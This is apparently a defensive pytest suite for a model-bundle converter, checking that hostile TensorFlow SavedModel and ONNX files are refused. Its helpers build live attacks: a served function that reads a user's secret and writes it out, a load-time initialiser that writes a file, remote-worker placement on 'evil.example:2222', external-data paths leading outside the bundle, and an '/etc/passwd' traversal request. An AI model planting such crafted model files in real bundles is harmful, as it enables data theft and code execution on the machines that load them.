"""Hostile model files (issue 19): a bundle's SavedModel and ONNX files as an attacker
writes them, each swapped into a copy of one tiny bundle whose file table is then made to
match (the version digest does not cover the files: an attacker rewrites the table).

Every class is refused by every command that opens a bundle (verify, predict, animate and
the Python API), each run in a process of its own: exit status 1, the one line naming the
file and the rule, nothing written where the attack writes, no death by a signal. The
attacks are live: loaded by TensorFlow without the gate, they write their marker files.
The SavedModel gate's field table is TensorFlow's own, and the local servers answer
malformed paths with 400 and one line.
"""
from __future__ import annotations

import json
import re
import shutil
import socket
import textwrap
from pathlib import Path

import pytest

from fomm_convert.formats import ONNX_WEIGHTS_FILE
from fomm_convert.io import file_sha256

from conftest import build_synthetic, builds, config_path, demo_media, require_module
from test_hostile_bundle import (command, copy, manifest_of, python, refusal,
                                 write_manifest)

TINY = config_path("tiny")
SM = "savedmodel/process_kp_driving"
GRAPH = f"{SM}/saved_model.pb"
ONNX = "onnx/process_kp_driving.onnx"
API = textwrap.dedent("""\
    import sys
    import fomm_convert
    from fomm_convert.errors import FommError
    try:
        fomm_convert.open_bundle(sys.argv[1]).backend(sys.argv[2])
    except FommError as exc:
        sys.exit(f"Error: {exc}")
    """)


@pytest.fixture(scope="module")
@builds
def built(tmp_path_factory):
    """A tiny synthetic bundle (SavedModel, ONNX) and the inputs each command reads."""
    built = build_synthetic(tmp_path_factory.mktemp("hostile-models"), "savedmodel,onnx")
    built.inputs = demo_media(built.cwd.parent / "inputs", 2)
    return built


def attacked(built, tmp_path: Path, attack, prefix: str):
    """A copy of the bundle, a folder `outside` it holding the user's secret, the attack
    made on the copy and its file table made to match every file under `prefix`, as an
    attacker writes it. Returns (bundle, outside, the files the attack would write)."""
    bundle = copy(built, tmp_path / "b")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("the user's secret")
    targets = attack(bundle, outside)
    resync(bundle, prefix)
    return bundle, outside, targets


def resync(bundle: Path, prefix: str):
    """The file table made to match every file under `prefix` (swapped, added, removed)."""
    manifest = manifest_of(bundle)
    rows = [r for r in manifest["files"] if not r["path"].startswith(prefix)]
    rows += [{"path": str(p.relative_to(bundle)), "size": p.stat().st_size,
              "sha256": file_sha256(p)} for p in sorted((bundle / prefix).rglob("*"))
             if p.is_file()]
    manifest["files"] = sorted(rows, key=lambda r: r["path"])
    write_manifest(bundle, manifest)


def runs(built, bundle: Path, backend: str, out: Path, verify: bool = True):
    """Every command that opens the bundle, as (name, finished process)."""
    inputs = built.inputs
    if verify:
        yield "verify", command("verify", bundle, cwd=built.cwd)
    yield "predict", command("predict", "--bundle", bundle, "--backend", backend, "--inputs",
                             inputs / "in.npz", "--out", out / "out.npz", cwd=built.cwd)
    yield "animate", command("animate", "--bundle", bundle, "--backend", backend, "--source",
                             inputs / "face.png", "--driving", inputs / "talk.mp4", "--out",
                             out / "out.gif", cwd=built.cwd)
    yield "api", python("-c", API, bundle, backend, cwd=built.cwd)


def assert_refused_everywhere(built, bundle: Path, backend: str, expected: str, targets):
    """Each command: exit 1 (no signal), the one line, nothing written at `targets` nor
    any output."""
    out = bundle.parent / "out"
    out.mkdir()
    for name, result in runs(built, bundle, backend, out):
        assert result.returncode == 1, (name, result.returncode, result.stderr[-3000:])
        line = refusal(result)
        assert re.search(expected, line) and line.startswith(f"{bundle}/"), (name, line)
        assert [p for p in targets if p.exists()] == [], name
        assert list(out.iterdir()) == [], name


# ------------------------------------------------------------------ SavedModel attacks
def _load(bundle: Path):
    import tensorflow as tf
    return tf.saved_model.load(str(bundle / SM))


def _save(root, bundle: Path, signature):
    """Save a tf.Module over the bundle's process_kp_driving, fingerprint pinned as ours."""
    import tensorflow as tf
    from fomm_convert.export.savedmodel import _pin_fingerprint
    folder = bundle / SM
    scratch = bundle.parent / "new-savedmodel"
    tf.saved_model.save(root, str(scratch), signatures={"serving_default": signature})
    _pin_fingerprint(scratch)
    shutil.rmtree(folder)
    shutil.move(scratch, folder)


def _serving(bundle: Path):
    """(the loaded model, its serving function, the input specs by name, sorted names)."""
    import tensorflow as tf
    real = _load(bundle)
    serving = real.signatures["serving_default"]
    specs = serving.structured_input_signature[1]
    names = sorted(specs)
    return real, serving, [tf.TensorSpec(specs[n].shape, specs[n].dtype, name=n)
                           for n in names], names


def served_io(bundle: Path, outside: Path) -> list[Path]:
    """The served function computes the real outputs and also reads a secret, lists a
    folder and writes both out."""
    import tensorflow as tf
    real, serving, specs, names = _serving(bundle)
    secret, marker = outside / "secret", outside / "stolen"

    @tf.function(input_signature=specs)
    def served(*args):
        result = serving(**dict(zip(names, args)))
        listing = tf.strings.reduce_join(tf.io.matching_files(f"{outside}/*"), separator="\n")
        tf.io.write_file(str(marker), tf.io.read_file(str(secret)) + b"\n" + listing)
        return result

    root = tf.Module()
    root.real, root.served = real, served
    _save(root, bundle, served.get_concrete_function())
    return [marker]


def _planted(bundle: Path, outside: Path, writes: bool):
    """A resource object beside the real function: TensorFlow creates and initialises it
    while it loads the model (its initialiser writes a file when `writes`)."""
    import tensorflow as tf
    real, serving, specs, names = _serving(bundle)
    marker = outside / "written-at-load"

    class Planted(tf.saved_model.experimental.TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="planted")

        def _initialize(self):
            if writes:
                tf.io.write_file(str(marker), "written at load")
            return tf.no_op()

    @tf.function(input_signature=specs)
    def served(*args):
        return serving(**dict(zip(names, args)))

    root = tf.Module()
    root.real, root.planted, root.served = real, Planted(), served
    _save(root, bundle, served.get_concrete_function())
    return [marker]


def _edit_graph(bundle: Path, edit) -> list[Path]:
    """saved_model.pb parsed with TensorFlow's protos, edited, written back (no target)."""
    from tensorflow.core.protobuf import saved_model_pb2
    path = bundle / GRAPH
    saved = saved_model_pb2.SavedModel.FromString(path.read_bytes())
    edit(saved.meta_graphs[0])
    path.write_bytes(saved.SerializeToString())
    return []


def _bare_init_op(meta):
    next(n for n in meta.graph_def.node if n.name == "NoOp").ClearField("input")


def resource_object(bundle: Path, outside: Path) -> list[Path]:
    """A resource whose initialiser only uses our ops, the init op made bare again: the
    object graph's rule is what refuses it."""
    targets = _planted(bundle, outside, writes=False)
    _edit_graph(bundle, _bare_init_op)
    return targets


def _functions(meta):
    """{role: FunctionDef}: the serving wrapper and the saver's save and restore."""
    library = {f.signature.name: f for f in meta.graph_def.library.function}
    calls = {n.name: n.attr["f"].func.name for n in meta.graph_def.node if "f" in n.attr}
    saver = meta.saver_def
    wrapper = next(f for name, f in library.items() if "signature_wrapper" in name)
    return {"wrapper": wrapper, "save": library[calls[saver.save_tensor_name.split(":")[0]]],
            "restore": library[calls[saver.restore_op_name]]}


def _call_target(name_of):
    def edit(bundle: Path, outside: Path) -> list[Path]:
        def retarget(meta):
            call = next(n for n in _functions(meta)["wrapper"].node_def
                        if n.op == "PartitionedCall")
            call.attr["f"].func.name = name_of(meta)
        return _edit_graph(bundle, retarget)
    return edit


def _remote_workers(meta):
    """The serving call's runtime configuration naming a cluster of remote workers."""
    from tensorflow.core.protobuf import config_pb2
    config = config_pb2.ConfigProto()
    config.cluster_def.job.add(name="worker").tasks[0] = "evil.example:2222"
    call = next(n for n in _functions(meta)["wrapper"].node_def if n.op == "PartitionedCall")
    call.attr["config_proto"].s = config.SerializeToString()


def _remote_device(meta):
    """A node of the model placed on a task of a remote job."""
    wrapper = _functions(meta)["wrapper"]
    next(n for n in wrapper.node_def if n.op == "PartitionedCall").device = \
        "/job:evil/replica:0/task:0/device:CPU:0"


def _huge_constant(meta):
    """A float constant declaring 2**40 values from one (TensorFlow fills the shape)."""
    library = meta.graph_def.library.function
    const = next(n for f in library if "process_kp" in f.signature.name
                 and "wrapper" not in f.signature.name for n in f.node_def
                 if n.op == "Const" and n.attr["value"].tensor.dtype == 1)
    tensor = const.attr["value"].tensor
    tensor.ClearField("tensor_content")
    tensor.ClearField("float_val")
    tensor.float_val.append(0.0)
    tensor.tensor_shape.ClearField("dim")
    tensor.tensor_shape.dim.add(size=1 << 40)


def _write_in_restore(bundle: Path, outside: Path) -> list[Path]:
    marker = outside / "written-by-restore"

    def add(meta):
        restore = _functions(meta)["restore"]
        for name, op in (("marker_name", "Const"), ("marker_write", "WriteFile")):
            node = restore.node_def.add(name=name, op=op)
            if op == "Const":
                node.attr["dtype"].type = 7
                node.attr["value"].tensor.dtype = 7
                node.attr["value"].tensor.string_val.append(str(marker).encode())
            else:
                node.input.extend(["marker_name:output:0", "marker_name:output:0"])
    _edit_graph(bundle, add)
    return [marker]


def _asset(bundle: Path, outside: Path) -> list[Path]:
    """An asset: a file TensorFlow hands to the graph (here the secret, inside assets/)."""
    import tensorflow as tf
    real, serving, specs, names = _serving(bundle)

    @tf.function(input_signature=specs)
    def served(*args):
        return serving(**dict(zip(names, args)))

    root = tf.Module()
    root.real, root.served = real, served
    root.asset = tf.saved_model.Asset(str(outside / "secret"))
    _save(root, bundle, served.get_concrete_function())
    return []


def _asset_outside(bundle: Path, outside: Path) -> list[Path]:
    """The same asset, its file removed from assets/ and its name pointing outside."""
    _asset(bundle, outside)
    shutil.rmtree(bundle / SM / "assets")

    def point_outside(meta):
        meta.asset_file_def[0].filename = f"../../../../{outside.name}/secret"
    _edit_graph(bundle, point_outside)
    return []


def _append(data: bytes):
    def edit(bundle: Path, outside: Path) -> list[Path]:
        path = bundle / GRAPH
        path.write_bytes(path.read_bytes() + data)
        return []
    return edit


def _foreign_checkpoint(bundle: Path, outside: Path) -> list[Path]:
    """The detector's variables/ under process_kp_driving (a checkpoint of another model)."""
    shutil.rmtree(bundle / SM / "variables")
    shutil.copytree(bundle / "savedmodel" / "kp_detector" / "variables", bundle / SM / "variables")
    return []


# (id, attack(bundle, outside) -> the files it would write, the refusal's regex)
SAVEDMODEL_CASES = [
    ("served-function-reads-lists-writes", served_io,
     rf"{GRAPH}: function '__inference_served_\d+' node \d+ '[\w/]+' \(op (ReadFile|"
     r"MatchingFiles|WriteFile)\): not an op our exporter writes outside the checkpoint "
     r"functions"),
    ("resource-initialiser-writes-at-load", lambda b, o: _planted(b, o, writes=True),
     rf"{GRAPH}: function '__inference__initializer_\d+' node \d+ '\w+' \(op WriteFile\): "
     r"not an op our exporter writes outside the checkpoint functions"),
    ("resource-initialiser-in-the-init-op", lambda b, o: _planted(b, o, writes=False),
     rf"{GRAPH}: the init op 'NoOp' is not a bare NoOp \(ours runs nothing at load\)"),
    ("resource-object", resource_object,
     rf"{GRAPH}: object \d+: holds resource \(a resource's initialiser runs at load\)"),
    ("asset", _asset, rf"{SM}/assets/secret: not a file our exporter writes there"),
    ("asset-outside", _asset_outside,
     rf"{GRAPH}: the meta graph: holds asset_file_def \(an asset is a file TensorFlow "
     r"hands to the graph\)"),
    ("no-object-graph", lambda b, o: _edit_graph(b, lambda m: m.ClearField("object_graph_def")),
     rf"{GRAPH}: no object graph \(ours has one; without it TF1's loader runs the graph "
     r"itself\)"),
    ("function-attribute-names-an-op", _call_target(lambda meta: "WriteFile"),
     rf"{GRAPH}: function '__inference_signature_wrapper_process_kp_\d+' node \d+ "
     r"'PartitionedCall' \(op PartitionedCall\) attr 'f': names 'WriteFile', which is no "
     r"function of the library \(TensorFlow would run it as an op\)"),
    ("checkpoint-function-called-elsewhere",
     _call_target(lambda meta: _functions(meta)["restore"].signature.name),
     rf"{GRAPH}: function '__inference_signature_wrapper_process_kp_\d+' node \d+ "
     r"'PartitionedCall' \(op PartitionedCall\) attr 'f': calls the checkpoint function "
     r"'__inference__traced_restore_\d+' \(only the saver's own nodes may\)"),
    ("call-configured-for-remote-workers", lambda b, o: _edit_graph(b, _remote_workers),
     rf"{GRAPH}: function '__inference_signature_wrapper_process_kp_\d+' node \d+ "
     r"'PartitionedCall' \(op PartitionedCall\) attr 'config_proto': not the runtime "
     r"configuration our exporter writes"),
    ("node-on-a-remote-task", lambda b, o: _edit_graph(b, _remote_device),
     rf"{GRAPH}: function '__inference_signature_wrapper_process_kp_\d+' node \d+ "
     r"'PartitionedCall' \(op PartitionedCall\): placed on '/job:evil/replica:0/task:0/"
     r"device:CPU:0' \(ours: '', '/device:CPU:\*', '/device:CPU:0'\)"),
    ("constant-of-a-terabyte", lambda b, o: _edit_graph(b, _huge_constant),
     rf"{GRAPH}: function '__inference_process_kp_\d+' node \d+ '[^']+' \(op Const\) attr "
     r"'value': a constant of shape \[1099511627776\] \(at most 4194304 values"),
    ("extra-op-in-a-checkpoint-function", _write_in_restore,
     rf"{GRAPH}: checkpoint function '__inference__traced_restore_\d+' node \d+ "
     r"'marker_write' \(op WriteFile\): not a save/restore op"),
    ("singular-field-twice", _append(b"\x08\x02"),
     rf"{GRAPH}: not in the canonical form TensorFlow writes \(from byte \d+: a field "
     r"written twice or out of order, or a value encoded otherwise\)"),
    ("unknown-field", _append(b"\xf8\x06\x01"),
     rf"{GRAPH}: field 111 of SavedModel, which our exporter does not write"),
    ("foreign-checkpoint", _foreign_checkpoint,
     rf"{SM}/variables/variables\.index: key 'model/[\w/.]+' is not the SavedModel's "
     r"variables"),
]


def test_an_unchecked_bundle_gates_the_format_it_opens(built, tmp_path):
    """bench opens a bundle without checking its files: the backend it opens is gated."""
    require_module("tensorflow")
    from fomm_convert.bundle.models_check import ModelFileError
    from fomm_convert.bundle.open import open_bundle
    bundle, _, _ = attacked(built, tmp_path, _call_target(lambda meta: "WriteFile"),
                            "savedmodel/")
    opened = open_bundle(bundle, check=False)
    opened.backend("onnx")  # the other format is not in question
    with pytest.raises(ModelFileError, match=r"names 'WriteFile', which is no function"):
        opened.backend("savedmodel")


def _utf8(data: bytes) -> bytes:
    at = data.index(b"saver_filename")
    return data[:at] + b"\xff" + data[at + 1:]


MALFORMED_GRAPHS = [
    ("empty", lambda data: b"", r"schema version 0 with 0 meta graphs \(ours: version 1, one\)"),
    ("truncated", lambda data: data[:-100], r"not a SavedModel protobuf \(.+\)"),
    ("not-utf8", _utf8, r"not a SavedModel protobuf \(.*bad UTF-8\)"),
    ("too-large", None, r"67108865 bytes, more than a SavedModel graph can be \(67108864\)"),
]


@pytest.mark.parametrize("damage, expected", [c[1:] for c in MALFORMED_GRAPHS],
                         ids=[c[0] for c in MALFORMED_GRAPHS])
def test_a_malformed_graph_file_is_one_line(built, tmp_path, damage, expected):
    from fomm_convert.bundle.models_check import ModelFileError, check_format
    from fomm_convert.bundle.open import checked_manifest
    bundle = copy(built, tmp_path / "b")
    path = bundle / GRAPH
    if damage is None:  # sparse: no 64 MiB written
        with open(path, "r+b") as f:
            f.truncate((64 << 20) + 1)
    else:
        path.write_bytes(damage(path.read_bytes()))
    with pytest.raises(ModelFileError) as caught:
        check_format(bundle, checked_manifest(bundle)[1], "savedmodel")
    assert re.fullmatch(rf"{re.escape(str(path))}: {expected}", str(caught.value))


def _table_file(entries: dict[bytes, bytes]) -> bytes:
    """A LevelDB table (TensorFlow's checkpoint index format) of sorted entries: one data
    block, an empty metaindex block, an index block, the footer (checksums left 0)."""
    import struct

    def varint(n):
        out = bytearray()
        while n >= 0x80:
            out.append(n & 0x7F | 0x80)
            n >>= 7
        return bytes(out + bytes([n]))

    def block(items):
        body = b"".join(varint(0) + varint(len(k)) + varint(len(v)) + k + v for k, v in items)
        return body + struct.pack("<II", 0, 1)

    data = block(sorted(entries.items()))
    meta = block([])
    out = data + b"\0" * 5
    meta_handle = varint(len(out)) + varint(len(meta))
    out += meta + b"\0" * 5
    index = block([(max(entries), varint(0) + varint(len(data)))])
    index_handle = varint(len(out)) + varint(len(index))
    out += index + b"\0" * 5
    handles = meta_handle + index_handle
    return out + handles + b"\0" * (40 - len(handles)) + struct.pack("<Q", 0xDB4775248B80FB57)


def test_a_checkpoint_entry_outside_the_data_file_is_refused(built, tmp_path):
    """The detector's index rewritten (a consistent table) with one variable's entry
    pointing past the end of the data file: refused before TensorFlow's reader sees it."""
    require_module("tensorflow")
    from tensorflow.core.protobuf import tensor_bundle_pb2
    from fomm_convert.bundle.models_check import ModelFileError, check_format
    from fomm_convert.bundle.models_check.tf_checkpoint import _table
    from fomm_convert.bundle.open import checked_manifest
    bundle = copy(built, tmp_path / "b")
    index = bundle / "savedmodel" / "kp_detector" / "variables" / "variables.index"
    entries = {k.encode(): v for k, v in _table(index.read_bytes()).items()}
    key = next(k for k in entries if k.endswith(b"VARIABLE_VALUE"))
    entry = tensor_bundle_pb2.BundleEntryProto.FromString(entries[key])
    entry.offset = 1 << 40
    entries[key] = entry.SerializeToString(deterministic=True)
    index.write_bytes(_table_file(entries))
    with pytest.raises(ModelFileError) as caught:
        check_format(bundle, checked_manifest(bundle)[1], "savedmodel")
    assert re.fullmatch(rf"{re.escape(str(index))}: key '{key.decode()}': dtype 1, shape "
                        rf"\[[\d, ]+\], 1099511627776\+\d+ bytes \(ours: dtype 1, shape "
                        rf"\[[\d, ]+\], inside variables/variables\.data-00000-of-00001 of "
                        rf"\d+ bytes\)", str(caught.value)), str(caught.value)
    entry.offset = 0
    entries[key] = entry.SerializeToString(deterministic=True)
    index.write_bytes(_table_file(entries))  # the control: the same table, in range
    check_format(bundle, checked_manifest(bundle)[1], "savedmodel")


LIVE = """
import sys, tensorflow as tf
model = tf.saved_model.load(sys.argv[1])
if sys.argv[2] == "call":
    serving = model.signatures["serving_default"]
    serving(**{k: tf.zeros([d or 1 for d in s.shape.as_list()], s.dtype)
               for k, s in serving.structured_input_signature[1].items()})
"""


@pytest.mark.parametrize("attack, when", [(served_io, "call"),
                                          (lambda b, o: _planted(b, o, writes=True), "load")],
                         ids=["served-function", "resource-initialiser"])
def test_the_attacks_are_live_without_the_gate(built, tmp_path, attack, when):
    """What the gate refuses is real: TensorFlow itself writes the markers (at load for
    the resource, at the first call for the served function)."""
    require_module("tensorflow")
    bundle, _, (marker,) = attacked(built, tmp_path, attack, "savedmodel/")
    result = python("-c", LIVE, bundle / SM, when, cwd=tmp_path)
    assert result.returncode == 0, result.stderr[-2000:]
    assert marker.exists()
    if when == "call":
        assert marker.read_text().startswith("the user's secret\n")


# ------------------------------------------------------------------ ONNX attacks
def _edit_onnx(edit):
    def attack(bundle: Path, outside: Path) -> list[Path]:
        import onnx
        path = bundle / ONNX
        model = onnx.load(str(path))
        edit(model, outside)
        path.write_bytes(model.SerializeToString())
        return []
    return attack


def _custom_domain(model, outside):
    import onnx
    node = next(n for n in model.graph.node if n.op_type == "Mul")
    node.domain = "com.example.ops"
    model.opset_import.append(onnx.helper.make_opsetid("com.example.ops", 1))


def _external_elsewhere(model, outside):
    import onnx
    tensor = next(n.attribute[0].t for n in model.graph.node if n.op_type == "Constant")
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    for key, value in (("location", str(outside / "secret")), ("offset", "0"),
                       ("length", "4")):
        tensor.external_data.add(key=key, value=value)


def _external_in_a_function_attribute(model, outside):
    """A model-local function (standard domain) whose attribute default is a tensor taking
    its data from a file outside (FunctionProto.attribute_proto, field 11)."""
    import onnx
    default = onnx.helper.make_tensor("stolen", onnx.TensorProto.FLOAT, [1], [0.0])
    default.ClearField("float_data")
    default.data_location = onnx.TensorProto.EXTERNAL
    default.external_data.add(key="location", value=f"../../{outside.name}/secret")
    default.external_data.add(key="length", value="4")
    attribute = onnx.helper.make_attribute("weights", default)
    function = onnx.helper.make_function(
        "ai.onnx", "Planted", ["x"], ["y"],
        [onnx.helper.make_node("Identity", ["x"], ["y"])],
        [onnx.helper.make_opsetid("", 17)])
    function.attribute_proto.append(attribute)
    model.functions.append(function)


ONNX_CASES = [
    ("custom-domain", _edit_onnx(_custom_domain),
     rf"{ONNX}: node \d+ '[^']*' \(op Mul\): domain 'com\.example\.ops' is not a standard "
     r"ONNX domain"),
    ("external-data-elsewhere", _edit_onnx(_external_elsewhere),
     rf"{ONNX}: tensor '[^']*': its external data must be {ONNX_WEIGHTS_FILE} beside it, "
     r"not '/tmp/"),  # the absolute path of the secret, cut short
    ("external-data-in-a-function-attribute", _edit_onnx(_external_in_a_function_attribute),
     rf"{ONNX}: tensor 'stolen': its external data must be {ONNX_WEIGHTS_FILE} beside it, "
     r"not '\.\./\.\./outside/secret'"),
]


CASES = [("savedmodel", *c) for c in SAVEDMODEL_CASES] + [("onnx", *c) for c in ONNX_CASES]


@pytest.mark.parametrize("kind, attack, expected", [(c[0], *c[2:]) for c in CASES],
                         ids=[f"{c[0]}-{c[1]}" for c in CASES])
def test_hostile_model_file_is_refused_by_every_command(built, tmp_path, kind, attack,
                                                        expected):
    require_module({"savedmodel": "tensorflow", "onnx": "onnx"}[kind])
    bundle, _, targets = attacked(built, tmp_path, attack, f"{kind}/")
    assert_refused_everywhere(built, bundle, kind, expected, targets)
    if kind == "onnx":  # inspect, on a lone file
        result = command("inspect", bundle / ONNX, cwd=built.cwd)
        assert result.returncode == 1 and re.search(expected, refusal(result)), result.stderr


def test_untouched_bundle_passes_every_command(built, tmp_path):
    """The control: the same commands on the bundle as built succeed (verify once)."""
    for backend in ("savedmodel", "onnx"):
        out = tmp_path / backend
        out.mkdir()
        for name, result in runs(built, built.bundle, backend, out, backend == "savedmodel"):
            assert result.returncode == 0, (backend, name, result.stderr[-3000:])
            if name == "verify":
                assert "parity savedmodel (fp32): pass" in result.stdout, result.stdout
        assert {p.name for p in out.iterdir()} == {"out.npz", "out.gif"}
    info = json.loads(command("inspect", "--json", built.bundle / ONNX, cwd=built.cwd).stdout)
    assert info["metadata"]["model"] == "process_kp_driving"
    assert info["outputs"] == [["value", ["batch", 5, 2]], ["jacobian", ["batch", 5, 2, 2]]]


# ------------------------------------------------------------------ the gate's own parts
def test_the_field_table_is_tensorflows():
    """Every row of models_check/tf_proto.py has TensorFlow's number, name, wire type and
    repetition, message for message from the roots it reads."""
    require_module("tensorflow")
    from google.protobuf.descriptor import FieldDescriptor as F
    from tensorflow.core.protobuf import (fingerprint_pb2, saved_model_pb2,
                                          tensor_bundle_pb2, trackable_object_graph_pb2)
    from fomm_convert.bundle.models_check.tf_proto import _ROWS, _rows
    kinds = {"int": {F.TYPE_INT32, F.TYPE_INT64, F.TYPE_UINT32, F.TYPE_UINT64, F.TYPE_BOOL,
                     F.TYPE_ENUM, F.TYPE_SINT64},
             "str": {F.TYPE_STRING}, "bytes": {F.TYPE_BYTES, F.TYPE_MESSAGE, F.TYPE_STRING},
             "fixed32": {F.TYPE_FLOAT, F.TYPE_FIXED32}, "fixed64": {F.TYPE_DOUBLE,
                                                                   F.TYPE_FIXED64}}
    seen = set()

    def compare(ours: str, theirs):
        if ours in seen:
            return
        seen.add(ours)
        for number, name, kind, repeated, reason in _rows(_ROWS[ours]):
            field = theirs.fields_by_number.get(number)
            assert field is not None and field.name == name, (ours, number, name)
            assert field.is_repeated == repeated or reason, (ours, name)
            if kind in kinds:
                assert field.type in kinds[kind], (ours, name)
            else:
                assert field.type == F.TYPE_MESSAGE, (ours, name)
                compare(kind, field.message_type)

    for ours, theirs in (("SavedModel", saved_model_pb2.SavedModel),
                         ("FingerprintDef", fingerprint_pb2.FingerprintDef),
                         ("BundleHeaderProto", tensor_bundle_pb2.BundleHeaderProto),
                         ("BundleEntryProto", tensor_bundle_pb2.BundleEntryProto),
                         ("TrackableObjectGraph",
                          trackable_object_graph_pb2.TrackableObjectGraph)):
        compare(ours, theirs.DESCRIPTOR)
    assert seen == set(_ROWS)


# ------------------------------------------------------------------ the local servers
MALFORMED = [
    (b"GET /%00 HTTP/1.0", "a control character once decoded"),
    (b"GET /index.html%00.png HTTP/1.0", "a control character once decoded"),
    (b"GET /%zz HTTP/1.0", "a '%' not followed by two hex digits"),
    (b"GET /% HTTP/1.0", "a '%' not followed by two hex digits"),
    (b"GET /%ff%fe HTTP/1.0", "not UTF-8 once decoded"),
    (b"GET /a\x80b HTTP/1.0", "characters a URL does not hold"),
    (b"GET index.html HTTP/1.0", "not a path"),
    (b"GET /" + b"a" * 300 + b" HTTP/1.0", "longer than a file path can be"),
    (b"GET /a b c HTTP/1.0", "Bad request"),  # the request line itself: the library's 400
]


def _ask(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(request + b"\r\nHost: x\r\n\r\n")
        reply = b""
        while chunk := conn.recv(65536):
            reply += chunk
    return reply


def _servers(site: Path):
    from fomm_convert.pipeline.web_server import site_server
    from fomm_convert.runtime.browser.server import HarnessServer
    import threading
    server = site_server(site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    harness = HarnessServer({"": site})
    try:
        yield "web --serve", server.server_address[1]
        yield "browser backends", harness.httpd.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        harness.close()


@pytest.mark.parametrize("request_line, reason", MALFORMED,
                         ids=[r[1] + f"-{i}" for i, r in enumerate(MALFORMED)])
def test_servers_answer_malformed_paths_with_400_and_one_line(tmp_path, capfd, request_line,
                                                              reason):
    site = tmp_path / "site"
    site.mkdir()
    (site / "site.json").write_text("{}")
    (site / "index.html").write_text("<p>page</p>")
    for name, port in _servers(site):
        capfd.readouterr()
        reply = _ask(port, request_line)
        assert reply.split(b"\r\n", 1)[0].split(b" ")[1] == b"400", (name, reply[:200])
        err = capfd.readouterr().err
        lines = [line for line in err.splitlines() if line.strip()]
        assert len(lines) == 1 and reason in lines[0] and "Traceback" not in err, (name, err)
        assert "400" in lines[0], (name, lines)
        ok, outside = _ask(port, b"GET / HTTP/1.0"), _ask(port, b"GET /../../etc/passwd "
                                                                 b"HTTP/1.0")
        assert ok.split(b" ")[1] == b"200" and ok.endswith(b"<p>page</p>"), name
        assert outside.split(b" ")[1] == b"404", name
        assert capfd.readouterr().err == "", name
